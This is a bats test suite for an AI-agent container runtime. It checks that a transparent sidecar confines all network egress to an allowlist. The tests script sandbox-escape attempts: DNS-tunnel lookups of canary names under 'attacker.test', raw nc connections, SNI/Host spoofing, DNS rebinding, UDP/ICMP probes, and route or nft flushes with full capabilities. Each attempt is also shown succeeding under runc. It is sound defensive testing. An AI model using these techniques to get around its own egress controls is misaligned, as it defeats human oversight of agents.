#!/usr/bin/env bats
# egress-transparent: programs that ignore proxy variables (busybox wget
# and curl without them, busybox nc, the attacker's raw sockets) meet the
# sidecar all the same: in the agent's namespace every TCP connection goes
# to its transparent listener and every DNS question to its stub
# (docs/egress.md, The transparent path).  Against the test's own
# "internet" (helpers/egress.bash), whose DNS server answers names that no
# hosts file has: an allowlisted name is reached, nothing else; a
# connection to the transparent listener itself is refused; a server that
# speaks first on name:22; no question for a name off the list, over UDP
# or TCP, ever reaches a DNS server; SNI or Host naming another name than
# the stub's answer, and names answered with loopback or private
# addresses, are refused; UDP (QUIC's 443 too) and ICMP fail at once; the
# agent cannot change any of it, whatever capabilities the bundle or exec
# asks for; a pod's next container, joining the namespace, meets the same
# rules; egress.transparent=false keeps the proxy-only shape.  Each attack
# is shown under the control runtime (runc) as well, where the same bundle
# sits in the outside namespace and the attempt works.

load helpers
load helpers/hardening
load helpers/egress

setup_file ()
{
  egress_net_up
}

teardown_file ()
{
  egress_net_down
}

T_ALLOW='dns.test,ssh.test:22,web.test,dns6.test,rebind.test,private-dns.test'

setup ()
{
  egress_setup "$T_ALLOW"
}

teardown ()
{
  teardown_bundle
}

CURL=/host/usr/bin/curl
# what a program that ignores proxy variables sees: none
NOPROXY='unset HTTP_PROXY HTTPS_PROXY ALL_PROXY NO_PROXY http_proxy https_proxy all_proxy no_proxy'

# ruleset_in FILE INDENT: the ruleset block (`table inet agentrt { ... }`)
# of FILE, each line with INDENT taken off.
ruleset_in ()
{
  sed -n "/^$2table inet agentrt {\$/,/^$2}\$/s/^$2//p" "$1"
}

# The rules the agent's namespace must hold, as nft(8) reads them: the
# text runtime/netns_rules.c shows above its batch (one text for the
# runtime, this file and tests/egress/launch.py; docs/egress.md's copy is
# checked against it).  check_ruleset compares what the kernel holds with
# nft's own load of that text, so the batch and the text cannot part.
T_RULESET=$(ruleset_in "$AGENTRT_TOP/runtime/netns_rules.c" ' \*   ')

# check_ruleset PID: PID's network namespace holds T_RULESET and nothing
# else: its `nft list ruleset` is what nft lists for T_RULESET loaded by
# nft itself into a scratch namespace (same text, same expressions).
check_ruleset ()
{
  local ns=agentrt-nftcmp-$$ want got
  ip netns add "$ns" || fail "ip netns add $ns"
  cleanup_add "ip netns del $ns"
  ip netns exec "$ns" nft -f - <<<"$T_RULESET" || fail "nft -f: the test's ruleset"
  want=$(ip netns exec "$ns" nft --debug=netlink list ruleset 2>&1 | sed 's/^\(inet agentrt [a-z]*\) .*/\1/')
  got=$(nsenter --net="/proc/$1/ns/net" nft --debug=netlink list ruleset 2>&1 | sed 's/^\(inet agentrt [a-z]*\) .*/\1/')
  [[ $want == *"redirect to :15001"* && $got == "$want" ]] \
    || fail "the container's rules differ from nft's: $(diff <(echo "$want") <(echo "$got"))"
}

# dns_questions: the questions the test's DNS server got so far.
dns_questions ()
{
  grep -c '^query ' "$EGRESS_DNS_LOG" || true
}

@test "transparent: a client that ignores proxy variables reaches an allowlisted name, and nothing else" {
  requires_curl
  # first, while the stub has named no address: the raw connection is
  # named by its Host (the sidecar checks that web.test leads there)
  local script="$NOPROXY
    printf 'raw: '; (printf 'GET / HTTP/1.1\r\nHost: web.test\r\nConnection: close\r\n\r\n'; sleep 2) \
      | busybox nc -w 3 1.2.3.10 80 | grep hello
    printf 'wget: '; busybox wget -q -O - http://dns.test/ 2>&1
    printf 'curl: '; $CURL -sS http://dns.test/ 2>&1
    printf 'curl6: '; $CURL -sS http://dns6.test/ 2>&1
    printf 'unlisted: '; $CURL -sS -m 5 http://dns-other.test/ 2>&1
    printf 'raw-unlisted: '; (printf 'GET / HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n'; sleep 2) \
      | busybox nc -w 3 1.2.3.11 80 2>&1; echo
    printf 'nameless: '; $CURL -sS -m 5 http://1.2.3.11/ 2>&1"
  run_ct sh -c "$script"
  for l in "wget: hello from web" "curl: hello from web" "curl6: hello from web6" \
    "raw: hello from web"; do
    has_line "$l"
  done
  has_line "unlisted: curl: (6) Could not resolve host: dns-other.test"
  [[ $output == *"nameless: curl: (56) Recv failure: Connection reset by peer"* ]] || fail "$output"
  [[ $output != *"hello from other"* ]] || fail "$output"
  audit_events create | jq -e '.directives.network | .transparent and .rules == "init"' >/dev/null \
    || fail "$(audit_events create)"
  local events
  events=$(egress_events)
  for want in \
    '.proto == "tcp" and .via == "host" and .host == "dns.test" and .addr == "1.2.3.10" and .port == 80 and .decision == "allow" and .bytes_down > 0' \
    '.proto == "tcp" and .via == "host" and .host == "dns6.test" and .addr == "3ffe:213::10" and .decision == "allow"' \
    '.proto == "tcp" and .via == "host" and .host == "web.test" and .decision == "allow"' \
    '.proto == "tcp" and .via == "host" and .host == "other.test" and .decision == "deny" and .reason == "not-allowlisted" and .bytes_up == 0' \
    '.proto == "tcp" and .addr == "1.2.3.11" and .host == null and .decision == "deny" and .reason == "not-allowlisted"'; do
    jq -se "any(.[]; $want)" <<<"$events" >/dev/null || fail "no audit line with $want in:"$'\n'"$events"
  done
  audit_events dns | jq -se 'any(.[]; .name == "dns-other.test" and .decision == "deny"
      and .reason == "not-allowlisted")' >/dev/null || fail "$(audit_events dns)"

  # the control: under runc the same bundle is in OUT, and reaches it all
  requires_control
  control_run sh -c "$script"
  has_line "unlisted: hello from other"
  has_line "nameless: hello from other"
}

@test "transparent: a connection to the transparent listener itself has no original destination, and is refused" {
  # the rules leave loopback alone, so the agent can connect to
  # 127.0.0.1:15001 itself; its conntrack entry names the listener
  run_ct sh -c "$NOPROXY
    for a in 127.0.0.1 ::1; do
      (printf 'GET / HTTP/1.1\r\nHost: web.test\r\nConnection: close\r\n\r\n'; sleep 1) \
        | busybox nc -w 2 \$a 15001 2>&1 | grep -c hello | sed \"s/^/\$a /\"
    done"
  has_line "127.0.0.1 0"
  has_line "::1 0"
  [[ $(egress_events | jq -s 'map(select(.reason == "no-original-destination"
      and .decision == "deny" and .bytes_up == 0)) | length') -eq 2 ]] || fail "$(egress_events)"
}

@test "transparent: TCP to name:22 reaches a server that speaks first; the name must be allowed on that port" {
  local script="$NOPROXY
    busybox nslookup dns.test >/dev/null 2>&1
    printf 'ssh: '; sleep 2 | busybox nc -w 3 ssh.test 22
    printf 'not-on-22: '; sleep 2 | busybox nc -w 3 dns.test 22 2>&1; echo"
  run_ct sh -c "$script"
  has_line "ssh: echo other"
  [[ $output != *"echo web"* ]] || fail "dns.test is not allowed on port 22: $output"
  egress_events | jq -se 'any(.[]; .via == "dns" and .host == "ssh.test" and .port == 22
      and .decision == "allow" and .bytes_down > 0)' >/dev/null || fail "$(egress_events)"
  egress_events | jq -se 'any(.[]; .addr == "1.2.3.10" and .port == 22 and .decision == "deny"
      and .reason == "not-allowlisted")' >/dev/null || fail "$(egress_events)"

  requires_control
  control_run sh -c "$script"
  has_line "ssh: echo other"
  has_line "not-on-22: echo web"
}

@test "transparent: DNS questions for names off the allowlist never reach a DNS server" {
  requires_curl
  new_canary
  CANARY=${CANARY,,} # names are compared and logged in lowercase
  local script="$NOPROXY
    busybox nslookup leak-$CANARY-a.attacker.test 1.2.3.53 >/dev/null 2>&1; echo a=\$?
    busybox nslookup leak-$CANARY-b.attacker.test 9.9.9.9 >/dev/null 2>&1; echo b=\$?
    busybox nslookup leak-$CANARY-c.attacker.test 127.0.0.53 >/dev/null 2>&1; echo c=\$?
    busybox nslookup -type=txt leak-$CANARY-d.attacker.test 1.2.3.53 >/dev/null 2>&1; echo d=\$?
    $CURL -sS -m 5 http://leak-$CANARY-e.attacker.test/ >/dev/null 2>&1; echo e=\$?
    busybox nslookup dns.test 3ffe:213::53 2>&1 | grep -c 1.2.3.10 | sed 's/^/allowed /'
    grep '^nameserver' /etc/resolv.conf"
  run_ct sh -c "$script"
  check_status 0
  for l in a=1 b=1 c=1 d=1 e=6 "allowed 1" "nameserver 127.0.0.1"; do
    has_line "$l"
  done
  [[ $(grep -c '^nameserver' <<<"$output") -eq 1 ]] || fail "$output"
  # the server saw the stub's own question for dns.test, none of the others
  grep -q '^query dns.test 1 ' "$EGRESS_DNS_LOG" || fail "$(cat "$EGRESS_DNS_LOG")"
  ! grep -q "$CANARY" "$EGRESS_DNS_LOG" || fail "a question left: $(grep "$CANARY" "$EGRESS_DNS_LOG")"
  # each refusal is recorded, name and decision
  [[ $(audit_events dns | jq -s --arg c "$CANARY" 'map(select((.name // "") | contains($c))
      | select(.decision == "deny" and .reason == "not-allowlisted")) | length') -ge 5 ]] \
    || fail "$(audit_events dns)"

  # the control: the same questions reach the server under runc
  requires_control
  control_run sh -c "$script"
  grep -q "leak-$CANARY-a.attacker.test" "$EGRESS_DNS_LOG" \
    || fail "under $CONTROL_RUNTIME the question should arrive: $(cat "$EGRESS_DNS_LOG")"
}

# dns_tcp_question NAME FILE: a DNS question (type A) for NAME as DNS over
# TCP sends it (the length first), written to FILE.
dns_tcp_question ()
{
  "$(_egress_python)" -c '
import struct, sys
q = struct.pack(">HHHHHH", 0x5a5a, 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(l)]) + l.encode() for l in sys.argv[1].split(".")) + b"\0"
q += struct.pack(">HH", 1, 1)
open(sys.argv[2], "wb").write(struct.pack(">H", len(q)) + q)' "$1" "$2"
}

@test "transparent: DNS over TCP, to any server, meets the stub as well" {
  new_canary
  CANARY=${CANARY,,}
  dns_tcp_question dns.test "$ROOTFS/q-allowed"
  dns_tcp_question "leak-$CANARY.attacker.test" "$ROOTFS/q-leak"
  # the test's DNS server answers UDP only: an answer over TCP is the stub's
  # (rcode, the 4th byte's low bits, and the answers' count, after the
  # length)
  local script='for q in allowed leak; do
      for s in 1.2.3.53 3ffe:213::53; do
        printf "%s %s " $q $s
        busybox nc -w 2 $s 53 </q-$q | busybox od -An -tu1 -j5 -N5 | busybox awk "{ print \$1 % 16, \$5 }"
      done
    done'
  run_ct sh -c "$script"
  has_line "allowed 1.2.3.53 0 1"
  has_line "allowed 3ffe:213::53 0 1"
  [[ $output != *"leak "*" 0 1"* ]] || fail "$output"
  ! grep -q "$CANARY" "$EGRESS_DNS_LOG" || fail "a question left: $(grep "$CANARY" "$EGRESS_DNS_LOG")"
  [[ $(audit_events dns | jq -s --arg c "$CANARY" 'map(select((.name // "") | contains($c))
      | select(.decision == "deny")) | length') -eq 2 ]] || fail "$(audit_events dns)"

  # the control: nothing answers DNS over TCP outside
  requires_control
  control_run sh -c "$script"
  [[ $output != *" 0 1"* ]] || fail "$output"
}

@test "transparent: SNI or Host naming another name than the stub's answer is refused" {
  requires_curl
  local script="$NOPROXY
    busybox nslookup dns.test >/dev/null 2>&1
    printf 'agree: '; (printf 'GET / HTTP/1.1\r\nHost: dns.test\r\nConnection: close\r\n\r\n'; sleep 2) \
      | busybox nc -w 3 dns.test 80 | grep hello
    printf 'host: '; (printf 'GET / HTTP/1.1\r\nHost: dns-other.test\r\nConnection: close\r\n\r\n'; sleep 2) \
      | busybox nc -w 3 dns.test 80 2>&1 | grep -c hello
    # TLS to the HTTP port: that server does not speak first, so the
    # reset is the sidecar's, not a reaction to what a server said
    printf 'sni: '; $CURL -sS -k -m 5 --resolve dns-other.test:80:1.2.3.10 https://dns-other.test:80/ 2>&1"
  run_ct sh -c "$script"
  has_line "agree: hello from web"
  has_line "host: 0"
  [[ $output == *"sni: curl: (35)"*"Connection reset by peer"* ]] || fail "$output"
  local n
  n=$(egress_events | jq -s 'map(select(.host == "dns-other.test" and .addr == "1.2.3.10"
      and .decision == "deny" and .reason == "name-mismatch" and .bytes_up == 0)) | length')
  [[ $n -eq 2 ]] || fail "$(egress_events)"

  # the control: the server answers whatever name is asked (in HTTP, to
  # the ClientHello too)
  requires_control
  control_run sh -c "$script"
  has_line "host: 1"
  [[ $output == *"sni: curl: (35)"* && $output != *"sni: curl: (35)"*"reset by peer"* ]] || fail "$output"
}

@test "transparent: a name answered with a loopback or private address is refused (rebinding)" {
  requires_curl
  local script="$NOPROXY
    busybox nslookup rebind.test 2>&1 | grep -c '^Name:' | sed 's/^/rebind /'
    busybox nslookup private-dns.test 2>&1 | grep -c '^Name:' | sed 's/^/private /'
    $CURL -sS -m 5 http://private-dns.test/ 2>&1"
  run_ct sh -c "$script"
  has_line "rebind 0"
  has_line "private 0"
  has_line "curl: (6) Could not resolve host: private-dns.test"
  audit_events dns | jq -se 'any(.[]; .name == "rebind.test" and .decision == "deny"
      and .reason == "address-loopback")' >/dev/null || fail "$(audit_events dns)"
  audit_events dns | jq -se 'any(.[]; .name == "private-dns.test" and .decision == "deny"
      and .reason == "address-private")' >/dev/null || fail "$(audit_events dns)"

  requires_control
  control_run sh -c "$script"
  has_line "rebind 1"
  has_line "hello from private"
}

@test "transparent: UDP and ICMP fail at once" {
  # ICMP echo sockets for every group, so that the attacker can ping
  # without CAP_NET_RAW
  update_config '.linux.sysctl["net.ipv4.ping_group_range"] = "0 2147483647"'
  # 443 as QUIC (HTTP/3) sends it: clients fall back to TCP
  local datagrams script='
    attack udp 1.2.3.10 9999
    attack udp 3ffe:213::10 9999
    attack udp 1.2.3.10 443
    attack udp 3ffe:213::10 443
    attack icmp 1.2.3.10'
  datagrams=$(wc -l <"$EGRESS_UDP_LOG")
  SECONDS=0
  run_ct sh -c "$script"
  ((SECONDS < 3)) || fail "took ${SECONDS} s: $output"
  [[ $(grep -c '^ATTACK-BLOCKED sendto: Operation not permitted' <<<"$output") -eq 5 ]] || fail "$output"
  [[ $(wc -l <"$EGRESS_UDP_LOG") -eq $datagrams ]] || fail "a datagram arrived: $(cat "$EGRESS_UDP_LOG")"

  requires_control
  control_run sh -c "$script"
  [[ $(grep -c '^ATTACK-OK' <<<"$output") -eq 5 ]] || fail "$output"
}

@test "transparent: the agent cannot change its routes or rules; a created container's monitor set them" {
  # the monitor sets them without a user namespace (with one the init
  # does: "in a user namespace" below)
  hardening_policy '.userns.mode = "off"'
  start_ct
  rt exec "$CT_ID" sh -c '
    ip route del default 2>&1; echo del=$?
    ip link set lo down 2>&1; echo down=$?
    ip route add 1.2.3.0/24 dev lo 2>&1; echo add=$?
    ip route | sed "s/^/route /"'
  [[ $(grep -c 'Operation not permitted' <<<"$output") -eq 3 && $output != *=0* ]] || fail "$output"
  has_line "route default dev lo scope link  src 127.0.0.1 "
  [[ $(grep -c '^route ' <<<"$output") -eq 1 ]] || fail "$output"
  # nor a process exec'd with the capability asked for
  rt exec --cap CAP_NET_ADMIN "$CT_ID" sh -c 'ip route del default 2>&1; echo del=$?'
  [[ $output == *"Operation not permitted"* && $output != *del=0* ]] || fail "$output"
  rt exec "$CT_ID" sh -c "$NOPROXY; busybox wget -q -O - http://dns.test/"
  has_line "hello from web"
  audit_events create | jq -e '.directives.network | .transparent and .rules == "monitor"' >/dev/null \
    || fail "$(audit_events create)"
  # the sidecar got every socket
  local cmd
  cmd=$(tr '\0' ' ' <"/proc/$(egress_sidecar_pid)/cmdline")
  for o in --transparent-fd --transparent6-fd --dns-udp-fd --dns-tcp-fd --dns-udp6-fd --dns-tcp6-fd; do
    [[ $cmd == *" $o "* ]] || fail "no $o: $cmd"
  done
}

@test "transparent: the rules the monitor installs are the ruleset, as nft itself loads it" {
  requires nft
  # the text itself: whole, the listener's port in it, docs/egress.md's the same
  [[ $T_RULESET == "table inet agentrt {"*"redirect to :15001"*"drop"*"}" ]] || fail "$T_RULESET"
  [[ $(ruleset_in "$AGENTRT_TOP/docs/egress.md" '   ') == "$T_RULESET" ]] \
    || fail "docs/egress.md's ruleset is not runtime/netns_rules.c's"
  hardening_policy '.userns.mode = "off"'
  start_ct
  audit_events create | jq -e '.directives.network.rules == "monitor"' >/dev/null \
    || fail "$(audit_events create)"
  check_ruleset "$(ct_pid "$CT_ID")"
}

@test "transparent: a privileged bundle (every capability, CAP_NET_ADMIN too) cannot change its routes or rules either" {
  # what `docker run --privileged` asks for: the capabilities the rules
  # rely on the agent not having are removed by the hardening
  careless_bundle
  privileged_bundle
  local nft='' script
  [[ -x /usr/sbin/nft ]] && nft=/host/usr/sbin/nft
  script="$NOPROXY
    grep CapEff /proc/self/status
    ip route del default 2>&1; echo del=\$?
    ip link set lo down 2>&1; echo down=\$?
    ip route add 1.2.3.0/24 dev lo 2>&1; echo add=\$?
    if [ -n '$nft' ]; then $nft flush ruleset 2>&1; echo nft=\$?; fi
    busybox wget -q -O - http://dns.test/ 2>&1
    $CURL -sS -m 5 http://1.2.3.11/ 2>&1; echo"
  run_ct sh -c "$script"
  check_status 0
  [[ $output != *=0* && $(grep -c 'Operation not permitted' <<<"$output") -ge 3 ]] || fail "$output"
  has_line "hello from web"
  [[ $output != *"hello from other"* ]] || fail "$output"
  local eff
  eff=$(awk '/CapEff/ { print $2 }' <<<"$output")
  (((0x$eff >> 12) & 1)) && fail "CAP_NET_ADMIN kept: $output"

  # the control: a new namespace under runc, the same capabilities
  # change its routes (not the test's shared outside namespace)
  requires_control
  update_config '(.linux.namespaces[] | select(.type == "network")) |= del(.path)'
  control_run sh -c 'ip route add 1.2.3.0/24 dev lo 2>&1; echo add=$?'
  has_line add=0
}

@test "transparent: a container joining another's agent namespace (a pod's) meets its rules; one asking for none or another allowlist is refused" {
  requires_curl
  start_ct
  # the pod's next container, every capability asked: the first one's
  # namespace, rules and sidecar, as they are
  careless_bundle
  update_config '.linux.namespaces |= map(if .type == "network" then .path = $p else . end)' \
    --arg p "/proc/$(ct_pid "$CT_ID")/ns/net"
  set_cmd sh -c "$NOPROXY
    busybox wget -q -O - http://dns.test/ 2>&1
    $CURL -sS -m 5 http://1.2.3.11/ 2>&1; echo
    ip route del default 2>&1; echo del=\$?
    attack udp 1.2.3.10 443"
  rt run --bundle "$BUNDLE" "$CT_ID-b"
  has_line "hello from web"
  [[ $output != *"hello from other"* && $output != *del=0* ]] || fail "$output"
  has_line "ATTACK-BLOCKED sendto: Operation not permitted"
  audit_events create | jq -se 'any(.[]; .directives.network.sharedAgentNamespace
      and .directives.network.agent == "shared")' >/dev/null || fail "$(audit_events create)"

  # a member asking for no egress at all, or for another allowlist, would
  # get the first one's proxy: refused
  add_annotation run.agentrt.egress.allow web.test
  rt run --bundle "$BUNDLE" "$CT_ID-c"
  [[ $status -ne 0 && $output == *"differs from"* ]] || fail "status $status: $output"
  add_annotation run.agentrt.egress none
  set_cmd sh -c "$NOPROXY; busybox wget -q -O - http://dns.test/ 2>&1"
  rt run --bundle "$BUNDLE" "$CT_ID-d"
  [[ $status -ne 0 && $output == *"asks for none"* && $output != *"hello from web"* ]] \
    || fail "status $status: $output"
}

@test "transparent: egress.transparent false keeps the proxy-only shape, recorded" {
  hardening_policy '.egress.transparent = false' || return 1
  run_ct sh -c "$NOPROXY
    busybox nc -w 2 1.2.3.10 80 </dev/null 2>&1; echo tcp=\$?
    busybox nslookup dns.test 1.2.3.53 >/dev/null 2>&1; echo dns=\$?
    ip route | wc -l | sed 's/^/routes /'
    grep '^nameserver' /etc/resolv.conf
    http_proxy=http://127.0.0.1:3128 busybox wget -q -O - http://web.test/"
  has_line tcp=1
  [[ $output == *"Network is unreachable"* ]] || fail "$output"
  has_line dns=1
  has_line "routes 0"
  has_line "nameserver 1.2.3.53"
  has_line "hello from web"
  audit_events create | jq -e '.directives.network | (.transparent | not) and .rules == "none"' >/dev/null \
    || fail "$(audit_events create)"
  audit_events create | jq -e '.changes[] | select(.kind == "egress" and .why == "egress.transparent is false")' \
    >/dev/null || fail "$(audit_events create)"
}

@test "transparent: in a user namespace (the init makes the agent's namespace and installs the rules)" {
  requires userns
  open_bundle_path
  # an image of the mapped range, as engines unpack one for it: copied
  # first (copy_rootfs hard-links the cache's symlinks and device nodes,
  # which chown -R would change for every later test), with the test's
  # name files in it, not bound from a directory the mapped root cannot
  # reach
  cp -a "$ROOTFS" "$ROOTFS.own" && rm -rf "$ROOTFS" && mv "$ROOTFS.own" "$ROOTFS" || return 1
  cp "$EGRESS_RESOLV" "$ROOTFS/etc/resolv.conf"
  cp "$EGRESS_HOSTS" "$ROOTFS/etc/hosts"
  chown -R 100000:100000 "$ROOTFS"
  update_config '.mounts |= map(select(.destination != "/etc/hosts" and .destination != "/etc/resolv.conf"))
    | .linux.namespaces += [{type: "user"}]
    | .linux.uidMappings = [{containerID: 0, hostID: 100000, size: 65536}]
    | .linux.gidMappings = [{containerID: 0, hostID: 100000, size: 65536}]'
  start_ct
  rt exec "$CT_ID" sh -c "$NOPROXY
    busybox wget -q -O - http://dns.test/
    busybox nslookup dns-other.test >/dev/null 2>&1; echo unlisted=\$?
    attack udp 1.2.3.10 9999"
  has_line "hello from web"
  has_line unlisted=1
  has_line "ATTACK-BLOCKED sendto: Operation not permitted"
  audit_events create | jq -e '.directives.network | .userNamespace and .maker == "init"
      and .transparent and .rules == "init"' >/dev/null || fail "$(audit_events create)"
  # the init, in the user namespace, installed the same
  if command -v nft >/dev/null; then
    check_ruleset "$(ct_pid "$CT_ID")"
  fi
}

@test "transparent: a FIFO at resolv.conf (the image's) or hosts (the engine's bind) is never opened by the runtime" {
  # Read by the runtime, root on the host, for the agent's resolv.conf and
  # the sidecar's name files: only a regular file is opened.  A FIFO
  # shows an open: its writer, blocked until a reader comes, goes on.
  requires mkfifo
  local fifo=$BATS_TEST_TMPDIR/hosts.fifo probes=() p
  rm -f "$ROOTFS/etc/resolv.conf"
  mkfifo "$ROOTFS/etc/resolv.conf" "$fifo"
  update_config '.mounts |= map(select(.destination != "/etc/resolv.conf"))
    | (.mounts[] | select(.destination == "/etc/hosts")).source = $f' --arg f "$fifo"
  for p in "$ROOTFS/etc/resolv.conf" "$fifo"; do
    (: >"$p" && touch "$p.opened") 3>&- >/dev/null 2>&1 &
    probes+=($!)
  done
  run_ct echo started
  kill "${probes[@]}" 2>/dev/null || true
  wait "${probes[@]}" 2>/dev/null || true
  check_status 0
  has_line started
  [[ ! -e $ROOTFS/etc/resolv.conf.opened ]] || fail "the runtime opened the image's FIFO resolv.conf"
  [[ ! -e $fifo.opened ]] || fail "the runtime opened the engine's FIFO hosts"
}

@test "transparent: a container without resolv.conf asks the stub all the same, and its image gets none" {
  # the sidecar, whose outside is the bundle's, then has no resolv.conf
  # either: web.test comes from the hosts file it is given
  update_config '.mounts |= map(select(.destination != "/etc/resolv.conf"))'
  rm -f "$ROOTFS/etc/resolv.conf"
  run_ct sh -c "
    ls /etc/resolv.conf 2>&1 | sed 's/^/ls: /'
    busybox nslookup web.test 2>&1 | grep -E '^(Server|Address)'"
  [[ $output == *"ls: "*"No such file or directory"* ]] || fail "$output"
  has_line "Server:		127.0.0.1"
  has_line "Address: 1.2.3.10"
  [[ ! -e $ROOTFS/etc/resolv.conf ]] || fail "the image got a resolv.conf"

  # the control: nothing answers on 127.0.0.1:53 of the outside namespace
  requires_control
  control_run sh -c "busybox nslookup web.test 2>&1 | grep -E '^(Server|Address)'"
  [[ $output != *"Address: 1.2.3.10"* ]] || fail "$output"
}
